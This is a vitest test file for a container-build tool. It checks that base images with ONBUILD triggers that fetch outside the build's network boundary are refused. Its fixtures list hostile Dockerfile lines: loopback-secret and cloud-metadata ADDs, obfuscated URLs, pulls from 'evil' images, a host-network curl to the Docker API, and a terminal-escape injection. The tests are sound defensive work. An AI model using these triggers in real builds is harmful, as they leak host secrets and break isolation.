/**
 * A base image's ONBUILD triggers that the engine carries out itself (downloads for ADD <url>, pulls for
 * --from) would leave the build's boundary: the classic builder fetches them on the host's network, so
 * `ONBUILD ADD http://127.0.0.1:PORT/secret /leak` put a host-loopback answer into the image (seen on
 * Docker 20.10 with `--network none`). Such a base image is refused before anything is built.
 */
import { describe, expect, it } from 'vitest';
import { fetchingTriggers, onBuildRefusal } from '../../../src/image/build-onbuild.js';

describe('ONBUILD triggers that fetch outside the build boundary', () => {
  const hostile = [
    'ADD http://127.0.0.1:47311/secret.txt /leak.txt',
    'add HTTPS://internal.example/x /x',
    'ADD --chown=1:1 http://169.254.169.254/latest/meta-data/ /m',
    'ADD ["http://172.17.0.1:8080/", "/y"]',
    'ADD http:"//"127.0.0.1/x /x',
    'ADD $SECRET_URL /x',
    'ADD ${U} /x',
    'ADD ["\\u0068ttp://127.0.0.1/", "/z"]',
    'ADD h\\ttp://127.0.0.1/ /z',
    'ADD git@github.com:evil/repo.git /r',
    'ADD github.com/evil/repo /r',
    'COPY --from=evil.example/img:1 /etc/x /x',
    'COPY --FROM=0 /a /b',
    'ADD --from=evil/img /a /b',
    // Podman's builder honours RUN flags: a step would leave the relay's network or mount an image.
    'RUN --network=host curl http://127.0.0.1:2375/',
    'RUN --mount=type=bind,from=evil/img,target=/m sh /m/x',
    'run   --security=insecure id',
  ];
  it.each(hostile)('refuses "ONBUILD %s"', (t) => {
    expect(fetchingTriggers([t])).toEqual([t]);
  });

  const fine = ['RUN curl http://127.0.0.1/', 'COPY . /app', 'ADD files.tar /opt/', 'ENV URL=http://x/', 'WORKDIR /w', 'COPY --chown=1:1 a /b'];
  it.each(fine)('lets "ONBUILD %s" run in the boundary', (t) => {
    expect(fetchingTriggers([t])).toEqual([]);
  });

  it('the refusal names the base image and the trigger, terminal-safe, and says what to change', () => {
    const err = onBuildRefusal('evil/base:1', ['RUN true', 'ADD http://127.0.0.1:1/\u001b]52;c;x\u0007 /x']);
    expect(err?.message).toContain('The base image evil/base:1 has ONBUILD steps');
    expect(err?.message).toContain('"ONBUILD ADD http://127.0.0.1:1/');
    expect(err?.message).not.toContain('\u001b');
    expect(err?.hint).toContain('base_image');
    expect(onBuildRefusal('debian:bookworm-slim', [])).toBeUndefined();
  });
});

describe('ensureImage and a base image with a fetching ONBUILD', () => {
  it('refuses before any relay, gateway or build step, and leaves no gateway directory', async () => {
    const { mkdtemp, readdir } = await import('node:fs/promises');
    const { tmpdir } = await import('node:os');
    const { join } = await import('node:path');
    const { ensureImage } = await import('../../../src/image/build.js');
    const home = await mkdtemp(join(tmpdir(), 'moat-onbuild-'));
    const calls: string[] = [];
    const runtime = new Proxy(
      {},
      {
        get: (_t, name: string) => async (ref: string) => {
          calls.push(name);
          if (name === 'imageExists') return ref === 'evil/base:1';
          if (name === 'inspectImage' && ref !== 'evil/base:1') return undefined; // the run's own tag: not built yet
          if (name === 'inspectImage')
            return { id: 'sha256:1', tags: [ref], labels: {}, size: 1, created: 0, env: [], onBuild: ['ADD http://127.0.0.1:47311/secret.txt /leak.txt'] };
          throw new Error(`unexpected ${name}`);
        },
      },
    ) as never;
    const done: boolean[] = [];
    const run = ensureImage({
      runtime,
      recipe: { baseImage: 'evil/base:1', extra: '' },
      homeRoot: home,
      buildsDir: join(home, 'builds'),
      rebuild: false,
      network: async () => ({ caDir: join(home, 'ca'), allowHosts: [], upstream: {} }),
      progress: async () => ({
        step: () => undefined,
        line: () => undefined,
        done: (ok) => {
          done.push(ok);
        },
      }),
    });
    await expect(run).rejects.toThrow(/The base image evil\/base:1 has ONBUILD steps that would fetch or run outside the build's network boundary/);
    expect(calls).toEqual(['inspectImage', 'imageExists', 'inspectImage']);
    expect(done).toEqual([false]);
    expect((await readdir(join(home, 'builds'))).filter((f) => f.startsWith('gw-'))).toEqual([]);
  });
});
